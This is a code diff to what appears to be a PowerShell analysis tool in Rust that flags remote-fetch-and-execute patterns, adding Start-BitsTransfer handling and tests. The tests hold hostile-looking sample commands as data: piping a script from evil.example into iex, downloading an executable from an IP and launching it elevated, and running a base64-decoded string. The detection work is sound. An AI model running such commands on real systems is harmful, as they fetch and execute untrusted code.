@@ -2022,6 +2022,21 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 }
                 Val::named(format!("type:{type_name}"))
             }
+            // BITS downloads to a file as Invoke-WebRequest -OutFile does.
+            "start-bitstransfer" => {
+                let url = args.named("source").cloned().or(first).unwrap_or_default();
+                let dest = args
+                    .named("destination")
+                    .cloned()
+                    .or_else(|| args.pos.get(1).cloned())
+                    .unwrap_or_default();
+                let origin = self.a.emit("fetch", span, url.text.clone(), None);
+                self.env.insert(
+                    format!("fetched:{}", dest.text.to_ascii_lowercase()),
+                    Val::unknown("").tainted(Taint::of(Taint::FETCHED, origin)),
+                );
+                Val::unknown("")
+            }
             "start-process" | "saps" | "start" => {
                 let file = args.named("filepath").cloned().or(first).unwrap_or_default();
                 let fetched = self
@@ -3936,6 +3951,11 @@ mod tests {
         let t = tags("irm bun.sh/install.ps1 | iex", Lang::PowerShell);
         assert!(t.iter().any(|t| t == "exec/fetched-vendor"), "{t:?}");
         let t = tags("irm evil.example/install.ps1 | iex", Lang::PowerShell);
+        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
+        let t = tags(
+            "$dst = Join-Path $env:TEMP 'nv.exe'\nStart-BitsTransfer -Source 'http://203.0.113.120/nv.exe' -Destination $dst\nStart-Process $dst -Verb RunAs",
+            Lang::PowerShell,
+        );
         assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
         let t = tags(
             "$b = [Convert]::FromBase64String('aQBlAHgA'); $s = [Text.Encoding]::Unicode.GetString($b); iex $s",
